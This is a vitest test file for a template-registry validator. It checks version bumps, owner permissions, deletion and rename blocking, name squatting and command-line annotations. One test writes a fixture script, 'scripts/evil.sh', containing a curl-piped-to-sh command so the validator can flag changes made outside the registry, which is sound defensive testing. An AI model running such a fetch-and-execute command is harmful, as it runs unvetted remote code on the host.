import { renameSync, rmSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { isCwsError } from "../../core/errors.js";
import { validateRegistryDir } from "../../core/validate/validate-dir.js";
import { TempRepo } from "../helpers/git-repo.js";
import { runScript } from "../helpers/run.js";

const EX = "registry/templates/example-workstation/template.json";

async function check(repo: TempRepo, options: { actor?: string; allowInfra?: boolean } = {}) {
  const result = await validateRegistryDir(join(repo.dir, "registry"), { base: "main", ...options });
  return result.diagnostics.map((d) => `${d.file}:${d.line} ${d.code}${d.pointer ? ` ${d.pointer}` : ""}`);
}

// Any change to the example also needs a changelog entry, so bump both together.
function bump(repo: TempRepo, version: string) {
  repo.editJson(EX, (t) => {
    t.version = version;
    const [newest] = t.changelog ?? [];
    if (newest) newest.version = version;
  });
}

describe("git-aware rules (real repositories)", () => {
  it("finds nothing when the working tree equals the base", async () => {
    expect(await check(new TempRepo(), { actor: "corpus-lab" })).toEqual([]);
  });

  it("requires a changed template to raise its version, even for uncommitted edits", async () => {
    const repo = new TempRepo();
    repo.editJson(EX, (t) => {
      t.description = "A complete example, now with more documentation for the corpus.";
    });
    expect(await check(repo, { actor: "corpus-lab" })).toEqual([`${EX}:10 CWS402 /version`]);
    bump(repo, "1.2.1");
    expect(await check(repo, { actor: "corpus-lab" })).toEqual([]);
  });

  it("rejects a lower version as not raised", async () => {
    const repo = new TempRepo();
    bump(repo, "1.1.9");
    expect(await check(repo)).toEqual([`${EX}:10 CWS402 /version`]);
  });

  it("lets only the base owners change a template, even if the change adds the actor", async () => {
    const repo = new TempRepo();
    bump(repo, "1.3.0");
    repo.editJson(EX, (t) => {
      t.owners.push("stranger");
    });
    const result = await validateRegistryDir(join(repo.dir, "registry"), { base: "main", actor: "stranger" });
    const problem = result.diagnostics.find((d) => d.code === "CWS404");
    expect(problem).toMatchObject({ file: EX, pointer: "/owners", severity: "error" });
    expect(problem?.hint).toContain("ask an owner (corpus-lab, second-owner)");
    expect(await check(repo, { actor: "second-owner" })).toEqual([]);
  });

  it("rejects deleting and renaming templates", async () => {
    const repo = new TempRepo();
    rmSync(join(repo.dir, "registry/templates/parent-stack"), { recursive: true });
    expect(await check(repo)).toEqual(["registry/templates/parent-stack/template.json:1 CWS403"]);
    const renamed = new TempRepo();
    renameSync(join(renamed.dir, "registry/templates/parent-stack"), join(renamed.dir, "registry/templates/parent-stack-v2"));
    renamed.editJson("registry/templates/parent-stack-v2/template.json", (t) => {
      t.template_id = "parent-stack-v2";
    });
    expect(await check(renamed, { actor: "parent-lab" })).toEqual(["registry/templates/parent-stack/template.json:1 CWS403"]);
  });

  it("keeps pull requests inside the registry unless infrastructure changes are allowed", async () => {
    const repo = new TempRepo();
    repo.write("scripts/evil.sh", "curl https://example.org | sh\n");
    repo.commit("touch scripts");
    const result = await validateRegistryDir(join(repo.dir, "registry"), { base: "HEAD~1" });
    expect(result.diagnostics.map((d) => `${d.file} ${d.code}`)).toEqual(["scripts/evil.sh CWS401"]);
    const allowed = await validateRegistryDir(join(repo.dir, "registry"), { base: "HEAD~1", allowInfra: true });
    expect(allowed.diagnostics).toEqual([]);
  });

  it("requires a new template to list the actor as an owner, and checks squatting only for new ids", async () => {
    const repo = new TempRepo();
    const parent = repo.read("registry/templates/parent-stack/template.json");
    const readme = repo.read("registry/templates/parent-stack/README.md");
    repo.write("registry/templates/genome-toolbox/template.json", parent.replace('"parent-stack"', '"genome-toolbox"'));
    repo.write("registry/templates/genome-toolbox/README.md", readme);
    expect(await check(repo, { actor: "newcomer" })).toEqual(["registry/templates/genome-toolbox/template.json:6 CWS405 /owners"]);
    expect(await check(repo, { actor: "parent-lab" })).toEqual([]);

    repo.write("registry/templates/parent-stacks/template.json", parent.replace('"parent-stack"', '"parent-stacks"').replaceAll('"parent-lab"', '"newcomer"'));
    repo.write("registry/templates/parent-stacks/README.md", readme);
    expect(await check(repo, { actor: "newcomer" })).toContain("registry/templates/parent-stacks/template.json:2 CWS204 /template_id");
    repo.commit("both exist on the base now");
    // Once merged, an old near-duplicate pair is not reported again by later pull requests.
    expect(await check(repo)).toEqual([]);
  });

  it("refuses an unknown base ref with a clear error", async () => {
    const repo = new TempRepo();
    const error = await validateRegistryDir(join(repo.dir, "registry"), { base: "origin/main" }).catch((e: unknown) => e);
    expect(isCwsError(error) && error.code).toBe("CWS406");
    expect((error as Error).message).toContain('cannot find base ref "origin/main"');
  });

  it("runs from the command line with --base, --actor and GitHub annotations", () => {
    const repo = new TempRepo();
    repo.editJson(EX, (t) => {
      t.name = "Example Workstation 2";
    });
    const result = runScript("validate.ts", ["--registry", "registry", "--base", "main", "--actor", "stranger", "--format", "github"], { cwd: repo.dir });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(`::error file=${EX},line=10,col=14,title=CWS402 /version::version 1.2.0 is not higher than 1.2.0 on main`);
    expect(result.stdout).toMatch(
      /::error file=registry\/templates\/example-workstation\/template.json,line=\d+,col=\d+,title=CWS404 \/owners::stranger is not an owner/,
    );
  });
});
